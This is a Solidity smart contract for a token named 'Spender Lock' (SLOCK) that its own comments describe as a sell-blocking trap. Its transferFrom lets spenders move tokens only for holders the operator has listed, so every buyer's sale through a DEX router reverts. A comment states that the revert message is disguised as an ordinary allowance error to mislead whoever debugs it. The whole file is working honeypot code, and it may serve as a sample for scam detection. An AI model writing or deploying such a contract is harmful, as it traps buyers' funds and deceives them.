// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title transferFrom-only trap, standalone: approvals are recorded as
/// usual, but a spender moves tokens only for holders the operator listed
/// in an array; a holder's own transfer works. Every router sell (approve,
/// then the router's transferFrom) reverts, so buyers can never sell
/// through a DEX.
contract SpenderLockToken {
    string public constant name = "Spender Lock";
    string public constant symbol = "SLOCK";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public operator;
    address[] private _routable;
    mapping(address => uint256) private _holdings;
    mapping(address => mapping(address => uint256)) private _permits;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        operator = msg.sender;
        _routable.push(msg.sender);
        totalSupply = supply;
        _holdings[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function owner() external view returns (address) {
        return operator;
    }

    function addRoutable(address holder) external {
        require(msg.sender == operator, "operator only");
        _routable.push(holder);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _holdings[who];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _permits[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _permits[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _shift(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        bool listed;
        for (uint256 i = 0; i < _routable.length; i++) {
            if (_routable[i] == from) {
                listed = true;
                break;
            }
        }
        // Reads like a plain allowance failure to whoever debugs it.
        require(listed, "ERC20: insufficient allowance");
        uint256 permit = _permits[from][msg.sender];
        require(permit >= value, "ERC20: insufficient allowance");
        if (permit != type(uint256).max) _permits[from][msg.sender] = permit - value;
        _shift(from, to, value);
        return true;
    }

    function _shift(address from, address to, uint256 value) private {
        uint256 held = _holdings[from];
        require(held >= value, "ERC20: transfer amount exceeds balance");
        unchecked {
            _holdings[from] = held - value;
        }
        _holdings[to] += value;
        emit Transfer(from, to, value);
    }
}
